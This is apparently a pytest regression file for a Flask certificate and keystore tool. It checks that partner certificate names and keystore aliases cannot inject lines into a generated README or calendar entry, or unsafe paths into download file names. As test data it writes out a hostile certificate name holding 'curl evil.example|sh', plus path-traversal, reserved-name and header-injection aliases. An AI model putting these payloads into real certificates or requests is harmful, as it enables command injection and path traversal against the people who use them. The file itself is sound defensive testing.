"""Issue 19, points 5 and 6: names from certificates and stores never add lines or paths.

Found: a partner's certificate CN with CR/LF, fetched from the partner's own server, wrote a
fake "Next steps … curl … | sh" block into README.txt; `GET /keystore/request.csr` named the
file after the raw alias of an opened store ("../../evil.csr", "con.csr", and a 500 for
CR/LF); the raw alias was suggested in the alias field.
"""

from __future__ import annotations

import datetime as dt
import io
import ipaddress
import zipfile
from pathlib import Path

import icalendar
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.serialization import pkcs12
from cryptography.x509.oid import ExtendedKeyUsageOID
from flask import Flask
from flask.testing import FlaskClient

from tests.conftest import ThrowawayPki
from tests.support.throwaway_pki import NOW, ThrowawayCA, new_key
from tests.support.tls_server import LocalTLSServer
from webapp.pki.text import one_line

from .conftest import P12_PASSWORD, FormatCase
from .procedure import (
    HTMX,
    attachment_name,
    complete_keystore,
    download,
    page_of,
    truststore_settings,
)
from .renewal_support import open_keystore

GOOD_FILE = "p12-openssl-modern-ec256"
BENIGN_CN = "Partner Benign"
# At most 64 characters (the CN's upper bound), CR/LF and a bidi override included.
HOSTILE_CN = "Partner\r\n\r\nNext steps\r\n1. curl evil.example|sh\u2028\u202e2."
PARTNER_EXPIRES = NOW + dt.timedelta(days=200)  # before the user's own: the reminder names it


def partner_server_files(ca: ThrowawayCA, common_name: str, folder: Path) -> tuple[Path, Path]:
    """A partner server certificate for 127.0.0.1 named `common_name`, signed by `ca`."""
    issued = ThrowawayCA._issue(
        ca.intermediate,
        common_name,
        new_key("ec256"),
        eku=ExtendedKeyUsageOID.SERVER_AUTH,
        sans=[x509.IPAddress(ipaddress.ip_address("127.0.0.1"))],
        not_after=PARTNER_EXPIRES,
    )
    chain = folder / "chain.pem"
    chain.write_bytes(
        b"".join(
            c.public_bytes(serialization.Encoding.PEM) for c in (issued.cert, ca.intermediate.cert)
        )
    )
    key = folder / "key.pem"
    key.write_bytes(issued.key_pem())
    return chain, key


def bundle_texts(
    app: Flask, ks: dict[str, FormatCase], pki: ThrowawayPki, common_name: str, folder: Path
) -> dict[str, str]:
    """The whole procedure with the partner's chain fetched from its server; the zip's texts."""
    client = app.test_client()
    complete_keystore(client, ks[GOOD_FILE].upload)
    chain, key = partner_server_files(pki.ca, common_name, folder)
    with LocalTLSServer(cert_chain=chain, key=key) as server:
        fetched = page_of(
            client.post(
                "/truststore/fetch",
                headers=HTMX,
                data={"server_url": f"https://127.0.0.1:{server.port}/in"},
            )
        )
    assert not fetched.errors(), fetched.errors()
    page = page_of(truststore_settings(client, fetched))
    assert not page.errors(), page.errors()
    page_of(
        client.post(
            "/finish/settings",
            headers=HTMX,
            data={"dest_url": "https://partner.example/in", "folder": "/srv"},
        )
    )
    archive = zipfile.ZipFile(io.BytesIO(download(client, "/finish/bundle.zip").data))
    return {
        "README.txt": archive.read("README.txt").decode(),
        "reminder.ics": archive.read("reminder.ics").decode(),
    }


def test_a_partner_name_with_line_breaks_adds_no_line_to_the_readme(
    app: Flask, keypair_uploads: dict[str, FormatCase], throwaway_pki: ThrowawayPki, tmp_path
):
    (tmp_path / "benign").mkdir()
    (tmp_path / "hostile").mkdir()
    benign = bundle_texts(app, keypair_uploads, throwaway_pki, BENIGN_CN, tmp_path / "benign")
    hostile = bundle_texts(app, keypair_uploads, throwaway_pki, HOSTILE_CN, tmp_path / "hostile")
    shown = one_line(HOSTILE_CN)
    assert "\n" not in shown and "\u202e" not in shown
    readme = hostile["README.txt"]
    assert shown in readme  # the partner's name is there, on one line of ours
    # Every line is one the app writes: the README with the benign partner, word for word,
    # once the partner's (sanitised) name is put back.
    assert readme.replace(shown, BENIGN_CN).splitlines() == benign["README.txt"].splitlines()
    assert "\r" not in readme and "\u2028" not in readme
    assert not any(line.startswith("1. curl") for line in readme.splitlines())
    # The calendar entry names the partner's certificate too, on its own property line.
    event = icalendar.Calendar.from_ical(hostile["reminder.ics"]).walk("VEVENT")[0]
    assert shown in str(event["summary"]) and "\n" not in str(event["summary"])
    assert "curl" not in "".join(
        line
        for line in hostile["reminder.ics"].splitlines()
        if not line.startswith((" ", "SUMMARY", "DESCRIPTION"))
    )


# --- names from opened stores ---------------------------------------------------------------


def opened_with_alias(client: FlaskClient, ca: ThrowawayCA, alias: str) -> None:
    issued = ca.issue_client("Opened Client", key_kind="ec256")
    data = pkcs12.serialize_key_and_certificates(
        alias.encode(),
        issued.key,
        issued.cert,
        issued.chain,
        serialization.BestAvailableEncryption(P12_PASSWORD.encode()),
    )
    page = page_of(open_keystore(client, data, P12_PASSWORD, name="last-year.p12"))
    assert not page.errors(), page.errors()


@pytest.mark.parametrize(
    "alias",
    ["../../evil", "con", "client\r\nSet-Cookie: x=1", "..\\..\\win", "a\u202eb", "x" * 300],
)
def test_the_request_name_from_an_opened_alias_is_safe_and_never_a_500(
    client: FlaskClient, throwaway_pki: ThrowawayPki, alias: str
):
    opened_with_alias(client, throwaway_pki.ca, alias)
    suggested = page_of(client.get("/")).field("alias").attrs["value"]
    # Only a valid alias is suggested: no control or bidi character, not over the limit.
    assert suggested.isprintable() and "\u202e" not in suggested and len(suggested) <= 64
    generated = client.post(
        "/keystore/generate",
        headers=HTMX,
        data={"organisation": "Org", "common_name": "Renewed", "key_type": "ec-p256"},
    )
    assert generated.status_code == 200
    response = client.get("/keystore/request.csr")
    assert response.status_code == 200, response.text[:300]
    name = attachment_name(response)
    assert name and name.endswith(".csr")
    assert "/" not in name and "\\" not in name and not name.startswith(".")
    assert name.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL"}
    assert all(" " <= char <= "~" for char in name), name
    disposition = response.headers["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition and ".." not in disposition
    assert x509.load_pem_x509_csr(response.data).is_signature_valid
